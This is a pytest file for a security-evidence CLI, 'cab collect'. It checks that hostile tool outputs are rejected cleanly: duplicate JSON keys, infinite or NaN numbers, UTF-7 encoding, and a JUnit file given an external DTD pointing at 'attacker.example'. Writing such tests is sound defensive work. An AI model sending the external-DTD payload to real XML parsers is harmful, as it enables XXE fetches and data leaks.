"""Hostile tool output through `cab collect`: exit 2, `file:line:col: message`, never a traceback.

Each case is one the issue found accepted or crashing; the bytes are small edits of real fixtures.
"""

from pathlib import Path

import pytest

from bot.cli import main
from tests.tool_fixtures import collect_argv, tool


def _edited(tmp_path: Path, fixture: str, old: str, new: str) -> Path:
    text = tool(fixture).read_text(encoding="utf-8")
    assert old in text, f"{old!r} not in {fixture}"
    path = tmp_path / f"hostile-{Path(fixture).name}"
    path.write_text(text.replace(old, new, 1), encoding="utf-8")
    return path


HOSTILE = {
    # A later "Results": [] would hide the two critical findings before it.
    "duplicate-results": ("--scan", "trivy/alpine-39.json", '"Results": [', '"Results": [], "Results": ['),
    "grype-infinity": (
        "--scan",
        "grype/image-critical-low.json",
        '"matches": [',
        '"cvss": 1e400, "matches": [',
    ),
    "cyclonedx-infinity": (
        "--sbom",
        "sbom/cyclonedx/trivy-npm.cdx-1.7.json",
        '"specVersion"',
        '"x": 1e400, "specVersion"',
    ),
    "cobertura-nan": ("--coverage", "coverage/coveragepy-missing-lines.cobertura.xml", '"0.5125"', '"NaN"'),
    "cobertura-1e309": (
        "--coverage",
        "coverage/coveragepy-missing-lines.cobertura.xml",
        '"0.5125"',
        '"1e309"',
    ),
    "junit-external-dtd": (
        "--tests",
        "junit/jenkins-ant-errors.xml",
        "<testsuite ",
        '<!DOCTYPE testsuite SYSTEM "http://attacker.example/t.dtd">\n<testsuite ',
    ),
    "junit-utf7": ("--tests", "junit/jenkins-ant-errors.xml", 'encoding="UTF-8"', 'encoding="UTF-7"'),
    "cobertura-utf7": (
        "--coverage",
        "coverage/coveragepy-branch.cobertura.xml",
        '<?xml version="1.0" ?>',
        '<?xml version="1.0" encoding="UTF-7"?>',
    ),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_tool_output_exits_2_at_a_line_and_column_without_a_traceback(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], case: str
) -> None:
    flag, fixture, old, new = HOSTILE[case]
    hostile = _edited(tmp_path, fixture, old, new)
    assert main(collect_argv(tmp_path, flag, str(hostile))) == 2
    err = capsys.readouterr().err
    assert f"{hostile}:" in err
    assert err.split(f"{hostile}:", 1)[1].split(":", 2)[0].isdigit()  # a line number follows
    assert "Traceback" not in err
    assert not list(tmp_path.glob("evidence/**/*.yaml"))


def test_a_vex_document_passed_as_the_sbom_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    vex = tool("sbom/cyclonedx/vex-cve-2020-25649.cdx-1.4.json")
    assert main(collect_argv(tmp_path, "--sbom", str(vex))) == 2
    assert "it is a VEX document, not an SBOM" in capsys.readouterr().err
